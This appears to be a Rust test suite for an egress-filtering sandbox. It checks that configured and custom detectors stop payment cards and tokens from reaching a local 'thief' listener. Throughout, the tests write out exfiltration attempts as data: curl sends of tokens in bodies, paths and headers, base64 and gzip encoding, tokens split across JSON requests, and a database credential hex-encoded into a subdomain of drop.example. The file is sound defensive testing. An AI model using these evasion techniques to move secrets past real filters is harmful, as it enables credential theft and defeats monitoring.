//! What a policy says about single detectors: how they weigh, the user's own, and
//! where a kind of credential may go besides.

use outgate_harness::audit::{records, text};
use outgate_harness::{Identity, Lab, Outcome, Sandbox, lab_tests};

use crate::{Credential, bash, confined, thief};

/// A sandbox with this policy beside what it has.
fn with<'l>(lab: &'l Lab, name: &str, policy: &str) -> Sandbox<'l> {
    let file = lab.folder("given", Identity::Own).join(name);
    std::fs::write(&file, policy).expect("a policy");
    confined(lab, Identity::Own).option("-p", &file.to_string_lossy())
}

/// Sends a text in content.
fn send(text: &str) -> Vec<String> {
    bash(&format!("curl -sS --data-binary '{text}' $URL/"))
}

fn assert_refused(outcome: &Outcome, names: &str) {
    assert!(outcome.stdout.contains("outgate denied"), "{outcome}");
    assert!(outcome.stderr.contains(names), "{names}: {outcome}");
}

const CARD: &str = "card 4111 1111 1111 1111.";

lab_tests! {
    fn some_detectors_run_only_where_somebody_names_them(lab) {
        let thief = thief();
        let outcome = confined(lab, Identity::Own).run(&send(CARD));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let outcome = confined(lab, Identity::Own)
            .option("--detector", "payment-card=block")
            .run(&send(CARD));
        assert_refused(&outcome, "payment-card");
        assert_eq!(thief.take(), b"", "{outcome}");
        // One digit away from a card is a number.
        let outcome = confined(lab, Identity::Own)
            .option("--detector", "payment-card=block")
            .run(&send("card 4111 1111 1111 1112."));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn a_detector_can_be_made_to_warn_also_under_strict(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("records", Identity::Own).join("weighed.jsonl");
        let policy = "[[inspect.detector]]\nid = \"github-token\"\nmode = \"warn\"\n";
        let outcome = with(lab, "warn.toml", policy)
            .flag("--strict")
            .option("--audit", &file.to_string_lossy())
            .run(&send(credential.text()));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let records = records(&file);
        let found = records.iter().find(|record| text(record, "kind") == "finding");
        let found = found.unwrap_or_else(|| panic!("a finding: {records:?}"));
        assert_eq!(text(found, "verdict"), "note");
        let off = policy.replace("warn", "off");
        let outcome = with(lab, "off.toml", &off).run(&send(credential.text()));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn a_detector_of_the_users_own_is_one_of_them(lab) {
        let thief = thief();
        let policy = "[[inspect.detector]]\nid = \"mycorp-token\"\ndescription = \"token of my corp\"\n\
            pattern = '''mycorp_[0-9A-Za-z]{24}'''\nissuers = [\"*.corp.example\"]\n";
        let token = "mycorp_Zk3jQ9vR4sL8nW1bY6cT3fA0";
        let sandbox = || with(lab, "own.toml", policy);
        for way in [
            format!("curl -sS -d 't={token}' $URL/"),
            format!("curl -sS $URL/{token}"),
            format!("curl -sS -H 'X-Y: {token}' $URL/"),
            format!("printf 'x%s' {token} | base64 -w0 | curl -sS --data-binary @- $URL/"),
            format!("printf %s {token} | gzip | curl -sS --data-binary @- $URL/"),
        ] {
            let outcome = sandbox().run(&bash(&way));
            assert_refused(&outcome, "token of my corp (");
            assert!(outcome.stderr.contains("*.corp.example"), "{outcome}");
            assert_eq!(thief.take(), b"", "{way}: {outcome}");
        }
        let outcome = sandbox().run(&send("mycorp_Zk3jQ9vR4sL8nW1bY6cT3fA"));
        assert_eq!(outcome.stdout, "arrived\n", "one character less: {outcome}");
        assert_ne!(thief.take(), b"");
        // Its issuer, and who is allowed besides.
        let allowed = format!(
            "{policy}[[inspect.allow]]\ndetector = \"mycorp-token\"\nhost = \"drop.example\"\n"
        );
        let outcome = with(lab, "allowed.toml", &allowed).run(&send(token));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let issued = policy.replace("*.corp.example", "drop.example");
        let outcome = with(lab, "issued.toml", &issued).run(&send(token));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn what_is_wrong_with_a_detector_is_said_and_nothing_leaves(lab) {
        let thief = thief();
        for (name, policy, says) in [
            ("id", "id = \"no-such-thing\"\nmode = \"block\"", "no-such-thing"),
            ("clash", "id = \"github-token\"\npattern = \"mycorp_[0-9]{16}\"", "another detector"),
            ("regex", "id = \"mycorp\"\npattern = \"mycorp_([0-9]{16}\"", "at byte 7"),
            ("literal", "id = \"mycorp\"\npattern = \"[0-9a-f]{40}\"", "no literal"),
            ("long", "id = \"mycorp\"\npattern = \"mycorp_[0-9]+\"", "no longest match"),
            ("issuer", "id = \"mycorp\"\npattern = \"mycorp_[0-9]{16}\"\nissuers = [\"*\"]", "issuer `*`"),
        ] {
            let policy = format!("[[inspect.detector]]\n{policy}\n");
            let outcome = with(lab, &format!("{name}.toml"), &policy).run(&send("anything"));
            assert_ne!(outcome.stdout, "arrived\n", "{name}: {outcome}");
            assert!(outcome.stderr.contains(says), "{name}: {outcome}");
            assert!(outcome.stderr.contains(&format!("{name}.toml:")), "place: {outcome}");
            assert_eq!(thief.take(), b"", "{name}");
        }
    }

    fn values_of_a_document_are_read_together_and_over_requests(lab) {
        let thief = thief();
        for script in [
            r#"printf '{"a":"%s","b":{"c":["%s"]}}' "${T:0:15}" "${T:15}" | curl -sS -H 'Content-Type: application/json' --data-binary @- $URL/"#,
            r#"printf '{"a":"x-%s","n":1,"b":"%s"}' "${T:0:9}" "${T:9}" | curl -sS -H 'Content-Type: application/vnd.api+json; charset=utf-8' --data-binary @- $URL/"#,
        ] {
            let credential = Credential::new();
            let script = bash(&format!("T='{}'; {script}", credential.text()));
            let outcome = confined(lab, Identity::Own).run(&script);
            assert_refused(&outcome, "values of the content");
            assert_eq!(thief.take(), b"", "{outcome}");
        }
        let credential = Credential::new();
        let script = format!(
            r#"T='{}'; for part in "${{T:0:10}}" "${{T:10:10}}" "${{T:20}}"; do printf '{{"p":"%s"}}' "$part" | curl -sS -H 'Content-Type: application/json' --data-binary @- $URL/; done"#,
            credential.text()
        );
        let outcome = confined(lab, Identity::Own).run(&bash(&script));
        assert!(outcome.stdout.contains("arrived\narrived\noutgate denied"), "{outcome}");
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert!(!sent.contains(&credential.text()[20..]), "{sent}");
    }

    fn labels_below_a_wildcard_carry_little(lab) {
        let names = outgate_harness::names::Names::start(vec![std::net::Ipv4Addr::LOCALHOST]);
        let get = |host: &str| bash(&format!("curl -sS --max-time 5 http://{host}:8099/"));
        let thief = thief();
        let wild = |rule: &str| confined(lab, Identity::Own).allow(rule).run(
            &get("706f7374677265733a2f2f757365723a70617373406462.drop.example"),
        );
        let outcome = wild("http://*.drop.example:8099");
        assert_ne!(outcome.code, Some(0), "{outcome}");
        assert!(outcome.stderr.contains("encoded-label"), "{outcome}");
        assert!(!outcome.stderr.contains("outgate: denied 706f"), "{outcome}");
        // A rule that spells it out is for whoever wrote it to answer for.
        let spelt = "http://706f7374677265733a2f2f757365723a70617373406462.drop.example:8099";
        let outcome = wild(spelt);
        assert!(!outcome.stderr.contains("encoded-label"), "{outcome}");
        // What looks like nothing is counted.
        let many = "python3 -c 'import socket\nfor n in range(400):\n try: socket.getaddrinfo(\"%016d.drop.example\" % n, 80, socket.AF_INET); print(\"named\")\n except OSError: pass'";
        let outcome = confined(lab, Identity::Own)
            .allow("http://*.drop.example:8099")
            .run(&bash(many));
        let named = outcome.stdout.lines().count();
        assert!((200..=260).contains(&named), "{named}: {outcome}");
        assert!(outcome.stderr.contains("labels"), "{outcome}");
        drop((names, thief));
    }
}
